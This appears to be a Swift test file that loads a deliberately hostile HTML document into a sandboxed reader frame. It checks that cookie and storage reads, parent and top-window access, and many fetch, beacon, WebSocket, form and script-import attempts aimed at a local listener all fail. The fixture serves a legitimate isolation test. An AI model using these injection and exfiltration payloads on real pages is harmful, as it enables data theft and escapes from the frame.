import EdicolaCore
import NIOCore
import NIOPosix
import Synchronization
import Testing

/// Documents with everything that the press would remove: the frame and the policy must hold without it.
@Suite(.serialized, .enabled(if: Chromium.isInstalled, "chromium and chromedriver are not installed"))
struct `A hostile document` {
    @Test(arguments: [false, true])
    func `reaches no cookies, no storage, no page around it, and nobody else`(isScripted: Bool) async throws {
        try await Listener.withListener { listener in
            let document = DocumentIssue.Document(
                path: "evil.html", body: Self.body(listener.port), head: Self.head(listener.port),
                isScripted: isScripted)
            // Far enough from the first page not to be prefetched.
            let quiet = (1...3).map { DocumentIssue.Document(path: "quiet-\($0).html", body: "<h1>Quiet</h1>") }
            let issue = DocumentIssue(layout: .scrolled, documents: quiet + [document])
            try await withDocuments(issue) { browser in
                try await browser.run(
                    "document.cookie = 'secret=plum'; localStorage.secret = 'plum'; document.title = 'Stand'")
                try await browser.press(.end)
                try await browser.until("\(Browser.reader).page === 4 && \(Browser.frame)?.src.endsWith('evil.html')")
                let seen = try await Self.seen(in: browser)
                if isScripted {
                    #expect(seen == "cookie:refused storage:refused parent:refused database:refused top:refused")
                } else {
                    #expect(seen == "nothing ran")
                }
                // Longer than all its attempts.
                try await browser.ask(
                    "POST", "/execute/async", ["script": "setTimeout(arguments[0], 4500)", "args": []])
                #expect(try await browser.value("location.pathname").text == "/orchard/documents/read/4")
                #expect(try await browser.value("window.pwned === undefined && document.cookie").text == "secret=plum")
            }
            // Some browsers open a connection before they notice that it is forbidden, but never send anything.
            #expect(listener.requests == [])
        }
    }

    /// Returns the document's own record.
    private static func seen(in browser: Browser) async throws -> String? {
        let found = try await browser.ask(
            "POST", "/element",
            ["using": "css selector", "value": ".spread-view:not(.is-before):not(.is-after) iframe"])
        try await browser.ask("POST", "/frame", ["id": found])
        let seen = try await browser.value("document.documentElement.dataset.seen || 'nothing ran'").text
        try await browser.ask("POST", "/frame", ["id": .null])
        return seen
    }

    private static func head(_ port: Int) -> String {
        let home = "http://127.0.0.1:\(port)"
        return """
            <meta http-equiv="refresh" content="3;url=\(home)/refresh"><base target="_top">
            <link rel="stylesheet" href="\(home)/style.css"><link rel="prefetch" href="\(home)/prefetch">
            <style>@import url(\(home)/import.css); body { background: url(\(home)/paper.png) }</style>
            """
    }

    private static func body(_ port: Int) -> String {
        let home = "http://127.0.0.1:\(port)"
        return """
            <h1 onclick="parent.pwned = 1">Hostile</h1><img src="\(home)/picture.png" onerror="fetch('\(home)/error')">
            <svg><image href="\(home)/drawing.png"/></svg><video src="\(home)/film.mp4"></video>
            <iframe src="\(home)/frame"></iframe><object data="\(home)/object"></object><embed src="\(home)/embed">
            <form id="form" action="\(home)/form"><input name="q" value="plum"></form>
            <a id="up" target="_top" href="\(home)/link">up</a><a id="run" href="javascript:parent.pwned = 2">run</a>
            <script src="\(home)/script.js"></script>
            <script>
              const seen = [], look = (name, act) => {
                try { seen.push(`${name}:${act()}`) } catch { seen.push(`${name}:refused`) }
              }
              look('cookie', () => document.cookie)
              look('storage', () => localStorage.length + sessionStorage.length)
              look('parent', () => parent.document.title)
              look('database', () => { indexedDB.open('x'); return 'open' })
              look('top', () => { top.location.href = '\(home)/top'; return 'gone' })
              document.documentElement.dataset.seen = seen.join(' ')
              const tries = [
                () => fetch('\(home)/fetch', { mode: 'no-cors' }), () => fetch('/api/v1/library', { credentials: 'include' }),
                () => new WebSocket('ws://127.0.0.1:\(port)/socket'), () => navigator.sendBeacon('\(home)/beacon', 'x'),
                () => new EventSource('\(home)/events'), () => window.open('\(home)/window'),
                () => { new Image().src = '\(home)/image' }, () => navigator.serviceWorker.register('/evil.js'),
                () => document.getElementById('form').submit(), () => document.getElementById('up').click(),
                () => document.getElementById('run').click(), () => import('\(home)/module.js'),
                () => new Worker('\(home)/worker.js'), () => parent.postMessage('hello', '*'),
                () => { setTimeout(() => { location.href = '\(home)/self' }, 3000) }
              ]
              for (const attempt of tries) try { attempt()?.catch?.(() => {}) } catch {}
            </script>
            """
    }
}

/// Counts connections to a port of this machine.
private struct Listener: Sendable {
    let port: Int
    private let heard: Heard

    /// The received lines.
    var requests: [String] { heard.lines.withLock { $0 } }

    private final class Heard: ChannelInboundHandler, Sendable {
        typealias InboundIn = ByteBuffer
        let lines = Mutex<[String]>([])

        func channelRead(context: ChannelHandlerContext, data: NIOAny) {
            let text = String(buffer: unwrapInboundIn(data))
            lines.withLock { $0.append(String(text.prefix { $0 != "\r" && $0 != "\n" && $0 != "\r\n" })) }
            context.close(promise: nil)
        }
    }

    static func withListener(_ body: (Listener) async throws -> Void) async throws {
        let heard = Heard()
        let channel = try await ServerBootstrap(group: MultiThreadedEventLoopGroup.singleton)
            .childChannelInitializer { channel in
                channel.pipeline.addHandler(heard)
            }
            .bind(host: "127.0.0.1", port: 0).get()
        try await body(Listener(port: channel.localAddress?.port ?? 0, heard: heard))
        try await channel.close()
    }
}
